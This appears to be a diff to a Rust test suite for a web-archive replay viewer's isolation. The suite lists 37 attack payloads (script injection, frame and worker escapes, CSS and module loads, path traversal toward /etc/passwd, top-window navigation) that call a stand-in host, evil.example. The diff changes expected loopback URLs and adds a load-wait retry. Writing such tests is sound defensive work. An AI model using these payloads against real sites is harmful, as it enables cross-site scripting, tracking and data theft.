@@ -28,11 +28,11 @@ const ATTACKS: [Attack; 37] = [
     attack("comments", "<!--><img src=http://evil.example/a>--><!--[if IE]><img src=http://evil.example/b><![endif]--><![CDATA[<img src=http://evil.example/c>]]>", ""),
     attack("unfinished", "<p <img src=http://evil.example/a><a href='x' <img src='http://evil.example/b' ><title><img src=http://evil.example/c></title><img src=http://evil.example/d", ""),
     attack("base", "<base href=http://evil.example/><img src=a><base href=//evil.example/2/><script>document.querySelector('base').href = 'http://evil.example/3/'; new Image().src = 'b'</script><link rel=stylesheet href=c>", ""),
-    attack("refresh", "<meta http-equiv='refresh' content='0; URL=http://evil.example/'>", "location.href.startsWith('http://127.0.0.1')"),
+    attack("refresh", "<meta http-equiv='refresh' content='0; URL=http://evil.example/'>", "location.href.startsWith('http://localhost:')"),
     attack("javascript addresses", "<a id=a href='java&#10;script:top.location=\"http://evil.example/\"'>x</a><iframe src='javascript:parent.location=\"http://evil.example/\"'></iframe><script>a.click()</script>", "location.origin !== 'http://evil.example'"),
     attack("data documents", "<iframe src='data:text/html,<img src=http://evil.example/a><script>top.location=\"http://evil.example/\";fetch(\"http://evil.example/b\")</script>'></iframe><object data='data:text/html,<img src=http://evil.example/c>'></object>", ""),
     attack("drawings", "<svg><image href=http://evil.example/a /><use xlink:href='http://evil.example/b#x'/><script>fetch('http://evil.example/c')</script><a id=s><animate attributeName=href to=http://evil.example/d begin=0s fill=freeze /><text y=20>x</text></a></svg><iframe src=/drawing.svg></iframe>", "window.drawn === undefined"),
-    attack("srcdoc", "<iframe srcdoc='<img src=http://evil.example/a><script>top.location=\"http://evil.example/\";parent.framed=location.href;parent.parent.location=\"http://evil.example/\"</script>'></iframe>", "location.href.startsWith('http://127.0.0.1')"),
+    attack("srcdoc", "<iframe srcdoc='<img src=http://evil.example/a><script>top.location=\"http://evil.example/\";parent.framed=location.href;parent.parent.location=\"http://evil.example/\"</script>'></iframe>", "location.href.startsWith('http://localhost:')"),
     attack("workers", "<script>const text = `try { importScripts('http://evil.example/a') } catch (e) {} fetch('http://evil.example/b').catch(() => 0); try { new WebSocket('ws://evil.example/') } catch (e) {} postMessage('tried')`;
         new Worker(URL.createObjectURL(new Blob([text]))).onmessage = () => { window.worked = 1 }; new Worker('/worker.js').onmessage = (event) => { window.told = event.data };
         try { new SharedWorker('http://evil.example/c') } catch (e) {}</script>", "new Promise((done) => { const wait = () => window.worked && window.told ? done(window.told === 'http://archived.example/worker.js') : setTimeout(wait, 10); wait(); })"),
@@ -40,13 +40,13 @@ const ATTACKS: [Attack; 37] = [
         window.more = own.register('/web/20200101000000js_/' + location.origin + '/worker.js', {scope: '/web/'}).then(() => 'registered', () => 'refused')</script>",
         "Promise.all([window.tried, window.more]).then((both) => both.join() === 'refused,refused')"),
     attack("the window around", "<script>for (const way of [() => top.location = 'http://evil.example/', () => window.top.location.replace('http://evil.example/'), () => (0, eval)('top').location = 'http://evil.example/', () => (0, eval)('top').document.body.remove(), () => parent.document.getElementById('ban').remove()]) { try { way() } catch (e) {} }</script>
-        <a id=t target=_top href=http://evil.example/>x</a><script>(0, eval)('setTimeout(() => t.click(), 10)')</script>", "location.href.startsWith('http://127.0.0.1')"),
+        <a id=t target=_top href=http://evil.example/>x</a><script>(0, eval)('setTimeout(() => t.click(), 10)')</script>", "location.href.startsWith('http://localhost:')"),
     attack("windows", "<script>window.opened = [window.open('http://evil.example/'), window.open('//evil.example/', 'other')]; try { opener.location = 'http://evil.example/' } catch (e) {}</script><iframe></iframe><script>window.clean = frames[0].open('http://evil.example/')</script>", "window.opened.join() === ',' && window.clean === null"),
     attack("cookies", "<script>document.cookie = 'evil=1; path=/'; window.kept = document.cookie</script>", "window.kept === 'evil=1'"),
     attack("storage of others", "<script>window.found = [localStorage.length, localStorage.getItem('secret'), localStorage.secret, Object.keys(localStorage).length]; indexedDB.databases && 0</script>", "JSON.stringify(window.found) === '[0,null,null,0]'"),
     attack("messages to the banner", "<iframe></iframe><script>const above = Object.getOwnPropertyDescriptor(frames[0], 'parent').get.call(window);
-        for (const said of [{perennial: 'page', url: 'javascript:alert(1)', time: '2020'}, {perennial: 'page', url: 'http://evil.example/\"><img src=x>', time: '20200101000000'}, {perennial: 'block', text: '<img src=x onerror=alert(1)>'}, {perennial: 'parts', parts: [{url: 'http://evil.example/<img src=x>'}, null, {url: 5}]}, null, 'x']) above.postMessage(said, '*')</script>", ""),
-    attack("forms", "<form id=f method=post action=http://evil.example/a><input name=a value=b><button id=b formaction=http://evil.example/b>x</button></form><script>f.action = 'http://evil.example/c'; HTMLFormElement.prototype.submit.call(f)</script>", "location.href.startsWith('http://127.0.0.1')"),
+        for (const said of [{perennial: 'page', url: 'javascript:alert(1)', time: '2020'}, {perennial: 'page', url: 'http://evil.example/\"><img src=x>', time: '20200101000000'}, {perennial: 'block', text: '<img src=x onerror=alert(1)>'}, {perennial: 'parts', parts: [{url: 'http://evil.example/<img src=x>'}, null, {url: 5}]}, null, 'x']) above['postMessage'](said, '*')</script>", ""),
+    attack("forms", "<form id=f method=post action=http://evil.example/a><input name=a value=b><button id=b formaction=http://evil.example/b>x</button></form><script>f.action = 'http://evil.example/c'; HTMLFormElement.prototype.submit.call(f)</script>", "location.href.startsWith('http://localhost:')"),
     attack("styles", "<style>@import 'http://evil.example/a'; @\\69mport url(//evil.example/b); p { background: u\\72l(http://evil.example/c) } @font-face { font-family: x; src: url(http://evil.example/d) } p { font-family: x }</style><p style='background: url(\"http://evil.example/e\")'>x</p>
         <script>document.styleSheets[0].insertRule('p { background: url(http://evil.example/f) }', 0); document.querySelector('p').style.backgroundImage = 'url(http://evil.example/g)'; document.querySelector('p').style.setProperty('--x', 'url(http://evil.example/h)');
         const sheet = document.createElement('style'); sheet.textContent = 'p { list-style: url(http://evil.example/i) }'; document.head.append(sheet)</script>", ""),
@@ -56,7 +56,7 @@ const ATTACKS: [Attack; 37] = [
     attack("written markup", "<script>document.write('<img src=\"http://evil.example/a\">'); document.write('<img sr'); document.write('c=http://evil.example/b>'); document.writeln('<scr' + 'ipt src=//evil.example/c></scr' + 'ipt>')</script>", ""),
     attack("blob pages", "<script>const page = new Blob(['<img src=http://evil.example/a><script>fetch(\"http://evil.example/b\");top.location=\"http://evil.example/\"</' + 'script>'], {type: 'text/html'}); const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(page); document.documentElement.append(frame)</script>", ""),
     attack("history", "<script>try { history.pushState({}, '', 'http://evil.example/') ; window.pushed = 1 } catch (e) { window.pushed = e.name } history.pushState({}, '', '/elsewhere'); for (let i = 0; i < 50; i++) location.hash = i</script>", "window.pushed === 'SecurityError' && document.URL.startsWith('http://archived.example/elsewhere')"),
-    attack("ways back", "<script>history.pushState({}, '', '/elsewhere'); history.go(-1); setTimeout(() => { history.go(1); history.go(-5); history.replaceState({}, '', '//evil.example/') }, 20)</script>", "location.href.startsWith('http://127.0.0.1')"),
+    attack("ways back", "<script>history.pushState({}, '', '/elsewhere'); history.go(-1); setTimeout(() => { history.go(1); history.go(-5); history.replaceState({}, '', '//evil.example/') }, 20)</script>", "location.href.startsWith('http://localhost:')"),
     attack("climbing", "<img src=/../../../../etc/passwd><img src=../../../../../../_perennial/x><script>fetch('/..%2f..%2fetc/passwd'); fetch('/%2e%2e/web/x').then((answer) => { window.climbed = answer.status })</script>", "new Promise((done) => { const wait = () => window.climbed ? done(window.climbed >= 400) : setTimeout(wait, 10); wait(); })"),
     attack("set by scripts", "<p id=p></p><script>new Image().src = 'http://evil.example/a'; p.innerHTML = '<img src=//evil.example/b><img srcset=\"http://evil.example/c 1x\">'; p.insertAdjacentHTML('beforeend', '<img src=http://evil.example/d>'); const i = document.createElement('img'); i.setAttribute('src', 'http://evil.example/e'); const s = document.createElement('script'); s.src = 'http://evil.example/f'; document.head.append(i, s); const x = new XMLHttpRequest(); x.open('GET', 'http://evil.example/g'); x.send()</script>", ""),
     attack("a clean frame", "<iframe></iframe><script>const clean = frames[0]; clean.fetch('http://evil.example/a').catch(() => 0); new clean.Image().src = 'http://evil.example/b'; const made = clean.document.createElement('img'); clean.Element.prototype.setAttribute.call(made, 'src', 'http://evil.example/c'); document.documentElement.append(made); const frame = clean.document.createElement('iframe'); clean.Element.prototype.setAttribute.call(frame, 'src', 'http://evil.example/d'); document.documentElement.append(frame)</script>", ""),
@@ -64,10 +64,10 @@ const ATTACKS: [Attack; 37] = [
     attack("frames", "<frameset cols=50%,50%><frame src=http://evil.example/a><frame src=//evil.example/b></frameset>", ""),
     attack("modules", "<script type=module>import('http://evil.example/a').catch(() => 0); import('//evil' + '.example/b').catch(() => 0)</script><script type=module>import 'http://evil.example/c'</script><script type=importmap>{\"imports\": {\"x\": \"http://evil.example/d\"}}</script>", ""),
     attack("reports", "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'; report-uri http://evil.example/a\"><img src=/x.png><a id=p ping=http://evil.example/b href=#x>x</a><script>p.ping = 'http://evil.example/c'; p.click()</script>", ""),
-    attack("code from text", "<script>new Function('location.href = \"http://evil.example/a\"')()</script>", "location.href.startsWith('http://127.0.0.1')"),
-    attack("code from text in time", "<script>setTimeout('location = \"http://evil.example/a\"', 1); [].constructor.constructor('window.location.assign(\"http://evil.example/b\")')()</script>", "location.href.startsWith('http://127.0.0.1')"),
+    attack("code from text", "<script>new Function('location.href = \"http://evil.example/a\"')()</script>", "location.href.startsWith('http://localhost:')"),
+    attack("code from text in time", "<script>setTimeout('location = \"http://evil.example/a\"', 1); [].constructor.constructor('window.location.assign(\"http://evil.example/b\")')()</script>", "location.href.startsWith('http://localhost:')"),
     attack("locked names", "<script>Object.freeze(Object.prototype); try { delete window.parent } catch (e) {} window.name = 'perennial_page'; document.title = 'x'</script><form name=location><input name=href></form><img name=__perennial>", ""),
-    attack("a link that is clicked", "<a id=a href=x>x</a><script>Object.getOwnPropertyDescriptor(Attr.prototype, 'value').set.call(a.attributes.href, 'http://evil.example/'); a.click()</script>", "location.href.startsWith('http://127.0.0.1')"),
+    attack("a link that is clicked", "<a id=a href=x>x</a><script>Object.getOwnPropertyDescriptor(Attr.prototype, 'value').set.call(a.attributes.href, 'http://evil.example/'); a.click()</script>", "location.href.startsWith('http://localhost:')"),
     attack("a sandbox within", "<iframe sandbox='allow-scripts' srcdoc='<script>fetch(\"http://evil.example/a\").catch(() => 0); top.location = \"http://evil.example/\"</script>'></iframe><iframe sandbox='allow-scripts allow-top-navigation allow-popups' src=/sandboxed></iframe>", ""),
 ];
 
@@ -181,7 +181,13 @@ impl Ground {
             }
         };
         if !inside.is_empty() {
-            expect(inside, self.viewer.inside(inside).to_string(), "true".into());
+            // The page may still be loading.
+            let mut last = String::new();
+            let _ = found_within(Duration::from_secs(2), || {
+                last = self.viewer.inside(inside).to_string();
+                (last == "true").then_some(())
+            });
+            expect(inside, last, "true".into());
         }
         let around = "[location.origin, document.getElementById('ban') !== null, document.querySelectorAll('#ban img, #ban script').length, \
                       document.cookie].join(' ')";
@@ -260,5 +266,7 @@ fn held_heads(ground: &Ground) {
     assert!(registered.starts_with("HTTP/1.1 400"), "{registered}");
     let bare =
         ground.raw(replay, &get(&format!("/web/20260102030405mp_/{page}"), "Sec-Fetch-Dest: document\r\n"));
+    // The dashboard has the other name of loopback.
+    let main = main.replace("127.0.0.1", "localhost");
     assert!(bare.starts_with("HTTP/1.1 302") && bare.contains(&format!("location: {main}/web/")), "{bare}");
 }
